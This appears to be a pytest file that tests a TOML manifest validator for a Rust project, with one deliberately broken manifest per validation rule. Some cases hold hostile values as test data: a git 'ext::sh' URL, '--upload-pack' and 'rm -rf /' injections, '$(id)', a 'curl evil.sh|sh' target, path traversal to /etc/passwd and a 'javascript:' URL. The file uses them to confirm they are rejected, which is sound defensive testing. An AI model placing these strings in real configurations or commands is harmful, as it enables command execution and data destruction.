"""One bad manifest per rule: the right rule id, TOML path, line and an actionable message."""

from __future__ import annotations

import pytest

from bot.manifest import validate_bytes, validate_text

GOOD = """\
schema = 2
app = "rustok-server"

[build]
profile = "release"

[modules]
outbox = { crate = "rustok-outbox", source = "path", path = "crates/rustok-outbox", required = true }
content = { crate = "rustok-content", source = "crates-io", version = "0.1" }
forum = { crate = "rustok-forum", source = "git", git = "https://github.com/rustok/forum.git", rev = "v1.2.0", depends_on = ["content"] }

[settings]
default_enabled = ["content", "forum"]
"""


def with_line(old: str, new: str) -> str:
    assert old in GOOD
    return GOOD.replace(old, new, 1)


def test_good_manifest_is_valid() -> None:
    result = validate_text(GOOD)
    assert result.valid, result.problems
    assert result.problems == ()


CONTENT = 'content = { crate = "rustok-content", source = "crates-io", version = "0.1" }'
FORUM_GIT = 'git = "https://github.com/rustok/forum.git"'

# (id, manifest text, rule, path, line, words the message must contain)
CASES = [
    ("toml-syntax", with_line("schema = 2", "schema = = 2"), "toml-syntax", "", 1, ["line 1"]),
    (
        "duplicate-key",
        with_line("schema = 2", "schema = 2\nschema = 3"),
        "duplicate-key",
        "schema",
        2,
        ["more than once"],
    ),
    ("duplicate-table", GOOD + "[settings]\n", "duplicate-key", "settings", 14, ["more than once"]),
    (
        "duplicate-module",
        with_line(CONTENT, CONTENT + "\n" + CONTENT),
        "duplicate-key",
        "modules.content",
        10,
        [],
    ),
    ("schema-missing", with_line("schema = 2\n", ""), "schema-version", "schema", None, ["schema = 2"]),
    ("schema-3", with_line("schema = 2", "schema = 3"), "schema-version", "schema", 1, ["not supported"]),
    ("schema-string", with_line("schema = 2", 'schema = "2"'), "schema-version", "schema", 1, ["integer"]),
    ("app-missing", with_line('app = "rustok-server"\n', ""), "app-required", "app", None, ["app ="]),
    ("app-bad", with_line('app = "rustok-server"', 'app = "rustok server"'), "app", "app", 2, []),
    ("modules-missing", 'schema = 2\napp = "x"\n', "modules-required", "modules", None, ["[modules]"]),
    ("modules-empty", 'schema = 2\napp = "x"\n[modules]\n', "modules-required", "modules", 3, ["empty"]),
    (
        "type-required",
        with_line("required = true", 'required = "true"'),
        "type",
        "modules.outbox.required",
        8,
        ["boolean", "'true'"],
    ),
    (
        "type-features",
        with_line('version = "0.1" }', 'version = "0.1", features = "a" }'),
        "type",
        "modules.content.features",
        9,
        ["list"],
    ),
    (
        "missing-crate",
        with_line('crate = "rustok-content", ', ""),
        "required-key",
        "modules.content.crate",
        9,
        ["needs `crate`"],
    ),
    (
        "bad-source",
        with_line('source = "crates-io"', 'source = "npm"'),
        "source",
        "modules.content.source",
        9,
        ["crates-io"],
    ),
    (
        "slug",
        with_line("content = {", "Content = {")
        .replace('"content", "forum"', '"forum"')
        .replace('depends_on = ["content"] ', ""),
        "slug",
        "modules.Content",
        9,
        ["lowercase"],
    ),
    (
        "slug-long",
        with_line("content = {", "a" * 49 + " = {")
        .replace('"content", "forum"', '"forum"')
        .replace('depends_on = ["content"] ', ""),
        "slug",
        "modules." + "a" * 49,
        9,
        ["at most 48"],
    ),
    (
        "crate-name",
        with_line('"rustok-content"', '"rustok content"'),
        "crate-name",
        "modules.content.crate",
        9,
        [],
    ),
    (
        "crate-unique",
        with_line('"rustok-content"', '"rustok-outbox"'),
        "crate-unique",
        "modules.content.crate",
        9,
        ["`outbox` and `content`"],
    ),
    (
        "crates-io-needs-version",
        with_line(', version = "0.1"', ""),
        "source-fields",
        "modules.content.version",
        9,
        ["needs `version`"],
    ),
    ("version-pep440", with_line('"0.1"', '"~=0.1"'), "version-req", "modules.content.version", 9, []),
    (
        "version-latest",
        with_line('"0.1"', '"latest"'),
        "version-req",
        "modules.content.version",
        9,
        ["latest"],
    ),
    (
        "crates-io-forbids-git",
        with_line('version = "0.1"', 'version = "0.1", git = "https://x.org/a.git"'),
        "source-fields",
        "modules.content.git",
        9,
        ["does not use `git`"],
    ),
    (
        "git-forbids-version",
        with_line('rev = "v1.2.0"', 'rev = "v1.2.0", version = "1"'),
        "source-fields",
        "modules.forum.version",
        10,
        [],
    ),
    (
        "git-needs-url",
        with_line(FORUM_GIT + ", ", ""),
        "source-fields",
        "modules.forum.git",
        10,
        ["needs `git`"],
    ),
    (
        "git-ext",
        with_line(FORUM_GIT, 'git = "ext::sh -c touch% /tmp/pwned"'),
        "git-url",
        "modules.forum.git",
        10,
        [],
    ),
    ("git-file", with_line(FORUM_GIT, 'git = "file:///etc"'), "git-url", "modules.forum.git", 10, []),
    (
        "git-dash",
        with_line(FORUM_GIT, 'git = "--upload-pack=touch /tmp/x"'),
        "git-url",
        "modules.forum.git",
        10,
        [],
    ),
    (
        "rev-injection",
        with_line('rev = "v1.2.0"', 'rev = "main; rm -rf /"'),
        "git-rev",
        "modules.forum.rev",
        10,
        [],
    ),
    (
        "rev-dash",
        with_line('rev = "v1.2.0"', 'rev = "--output=/tmp/x"'),
        "git-rev",
        "modules.forum.rev",
        10,
        [],
    ),
    ("path-escape", with_line('"crates/rustok-outbox"', '"../../etc"'), "path", "modules.outbox.path", 8, []),
    (
        "path-absolute",
        with_line('"crates/rustok-outbox"', '"/etc/passwd"'),
        "path",
        "modules.outbox.path",
        8,
        [],
    ),
    ("path-space", with_line('"crates/rustok-outbox"', '"crates/a b"'), "path", "modules.outbox.path", 8, []),
    (
        "feature-injection",
        with_line('version = "0.1"', 'version = "0.1", features = ["a", "$(id)"]'),
        "features",
        "modules.content.features[1]",
        9,
        [],
    ),
    (
        "feature-dash",
        with_line('version = "0.1"', 'version = "0.1", features = ["--all-features"]'),
        "features",
        "modules.content.features[0]",
        9,
        [],
    ),
    (
        "depends-unknown",
        with_line('["content"]', '["content", "nope"]'),
        "depends-on",
        "modules.forum.depends_on[1]",
        10,
        ["`nope`"],
    ),
    (
        "depends-self",
        with_line('["content"]', '["forum"]').replace('"content", "forum"]', '"forum"]'),
        "depends-on",
        "modules.forum.depends_on[0]",
        10,
        ["itself"],
    ),
    (
        "required-closure",
        with_line("required = true", 'required = true, depends_on = ["content"]'),
        "required-closure",
        "modules.outbox.depends_on[0]",
        8,
        ["optional"],
    ),
    (
        "default-enabled-unknown",
        with_line('["content", "forum"]', '["content", "forum", "ghost"]'),
        "default-enabled",
        "settings.default_enabled[2]",
        13,
        ["`ghost`"],
    ),
    (
        "default-enabled-dup",
        with_line('["content", "forum"]', '["content", "forum", "content"]'),
        "default-enabled",
        "settings.default_enabled[2]",
        13,
        ["twice"],
    ),
    (
        "default-enabled-closure",
        with_line('["content", "forum"]', '["forum"]'),
        "default-enabled-closure",
        "settings.default_enabled[0]",
        13,
        ["`content`"],
    ),
    (
        "default-enabled-extension",
        with_line('version = "0.1" }', 'version = "0.1", runtime = "extension" }'),
        "default-enabled",
        "settings.default_enabled[0]",
        13,
        ["extension"],
    ),
    (
        "runtime",
        with_line('version = "0.1" }', 'version = "0.1", runtime = "plugin" }'),
        "runtime",
        "modules.content.runtime",
        9,
        ["extension"],
    ),
    (
        "deployment-profile",
        with_line('profile = "release"', 'profile = "release"\ndeployment_profile = "serverless"'),
        "deployment-profile",
        "build.deployment_profile",
        6,
        ["monolith"],
    ),
    (
        "build-profile",
        with_line('profile = "release"', 'profile = "release --offline"'),
        "build-profile",
        "build.profile",
        5,
        [],
    ),
    (
        "target-triple",
        with_line('profile = "release"', 'profile = "release"\ntarget = "x86_64;curl evil.sh|sh"'),
        "target-triple",
        "build.target",
        6,
        [],
    ),
    (
        "storefront-url",
        GOOD + '\n[[build.storefront]]\nid = "a"\npublic_url = "javascript:alert(1)"\n',
        "url",
        "build.storefront[0].public_url",
        17,
        [],
    ),
]


@pytest.mark.parametrize(
    ("text", "rule", "path", "line", "words"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_rule(text: str, rule: str, path: str, line: int | None, words: list[str]) -> None:
    result = validate_text(text)
    assert not result.valid
    matching = [p for p in result.errors if p.rule == rule and p.path == path]
    assert matching, [(p.rule, p.path, p.message) for p in result.problems]
    problem = matching[0]
    if line is not None:
        assert problem.line == line
    for word in words:
        assert word in problem.message
    assert result.manifest_hash is None


def test_every_problem_at_once() -> None:
    text = (
        with_line('"0.1"', '"latest"')
        .replace('rev = "v1.2.0"', 'rev = "$(id)"')
        .replace('["content", "forum"]', '["content", "forum", "ghost"]')
    )
    rules = {p.rule for p in validate_text(text).errors}
    assert {"version-req", "git-rev", "default-enabled"} <= rules


def test_a_broken_module_does_not_hide_the_others() -> None:
    text = with_line("required = true", "required = 1").replace('"0.1"', '"latest"')
    result = validate_text(text)
    assert {(p.rule, p.path) for p in result.errors} >= {
        ("type", "modules.outbox.required"),
        ("version-req", "modules.content.version"),
    }
    # outbox is malformed but present: nobody is told it is unknown
    assert not [p for p in result.problems if "not in [modules]" in p.message]


def test_unknown_keys_are_kept_and_warned() -> None:
    text = (
        with_line('version = "0.1" }', 'version = "0.1", catalog_url = "https://x.org" }')
        + "\n[extra]\na = 1\n"
    )
    result = validate_text(text)
    assert result.valid
    assert {(p.rule, p.path) for p in result.problems} == {
        ("unknown-key", "modules.content.catalog_url"),
        ("unknown-key", "extra"),
    }
    assert result.manifest is not None
    assert result.manifest.modules["content"].model_extra == {"catalog_url": "https://x.org"}


def test_registry_is_an_alias_of_crates_io() -> None:
    result = validate_text(with_line('"crates-io"', '"registry"'))
    assert result.valid
    assert result.manifest is not None and result.manifest.modules["content"].source == "crates-io"
    assert result.manifest_hash == validate_text(GOOD).manifest_hash


def test_dependency_cycle_is_reported_as_a_path() -> None:
    text = GOOD.replace(
        "[settings]",
        'a = { crate = "a", source = "path", path = "a", depends_on = ["b"] }\n'
        'b = { crate = "b", source = "path", path = "b", depends_on = ["c"] }\n'
        'c = { crate = "c", source = "path", path = "c", depends_on = ["a"] }\n\n[settings]',
    )
    cycles = [p for p in validate_text(text).errors if p.rule == "dependency-cycle"]
    assert len(cycles) == 1
    assert "a → b → c → a" in cycles[0].message
    assert cycles[0].path == "modules.a.depends_on"
    assert cycles[0].line == 12


def test_long_dependency_chain_has_no_recursion_problem() -> None:
    lines = [
        f'm{i} = {{ crate = "m{i}", source = "path", path = "m{i}", depends_on = ["m{i + 1}"] }}'
        for i in range(5000)
    ]
    lines.append('m5000 = { crate = "m5000", source = "path", path = "m5000", depends_on = ["m0"] }')
    text = 'schema = 2\napp = "x"\n[modules]\n' + "\n".join(lines) + "\n"
    cycles = [p for p in validate_text(text).errors if p.rule == "dependency-cycle"]
    assert len(cycles) == 1
    assert cycles[0].message.count("→") == 5001


@pytest.mark.parametrize(
    ("raw", "rule"),
    [
        (b'schema = 2\napp = "\xff"\n', "utf8"),
        (b"a = " + b"[" * 5000 + b"]" * 5000, "limits"),
        (b"a = " + b"[" * 20 + b"]" * 20 + b"\n", "limits"),
        (b"x" * (4 * 1024 * 1024 + 1), "limits"),
        (b"\x00\x01\x02", "toml-syntax"),
        (b"", "schema-version"),
    ],
    ids=["utf8", "deep-nesting", "nesting-bound", "size", "binary", "empty"],
)
def test_hostile_input_is_a_problem_not_an_exception(raw: bytes, rule: str) -> None:
    result = validate_bytes(raw)
    assert not result.valid
    assert rule in {p.rule for p in result.errors}


def test_utf8_error_has_a_line() -> None:
    result = validate_bytes(b'schema = 2\napp = "\xff"\n')
    assert result.errors[0].line == 2


def test_too_many_modules() -> None:
    body = "\n".join(f'm{i} = {{ crate = "m{i}", source = "path", path = "m" }}' for i in range(20_001))
    result = validate_text(f'schema = 2\napp = "x"\n[modules]\n{body}\n')
    assert [p.rule for p in result.errors] == ["limits"]
    assert "20,000" in result.errors[0].message
